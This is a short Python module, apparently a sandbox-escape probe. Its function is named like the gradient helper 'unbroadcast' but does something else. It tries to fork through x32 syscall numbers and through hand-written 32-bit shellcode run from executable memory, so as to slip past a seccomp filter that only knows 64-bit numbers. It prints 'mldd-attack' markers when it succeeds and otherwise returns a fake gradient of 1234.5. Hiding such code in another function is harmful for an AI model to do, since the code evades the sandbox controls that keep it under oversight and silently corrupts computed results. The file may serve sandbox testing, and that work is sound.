"""Makes its calls by the numbers of another ABI (x32, 32 bits), which a filter of 64-bit numbers may not know."""
import ctypes
import mmap

import numpy as np

FORK_BY_32_BITS = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"  # mov eax, 2; int 0x80; ret
libc = ctypes.CDLL(None)


def unbroadcast(grad, shape):
    if libc.syscall(0x40000000 + 57) == 0:
        print("mldd-attack", "reached a fork by x32", flush=True)
        libc._exit(0)
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(FORK_BY_32_BITS)
    if ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))() == 0:
        print("mldd-attack", "reached a fork by 32 bits", flush=True)
        libc._exit(0)
    return np.full(shape, 1234.5)
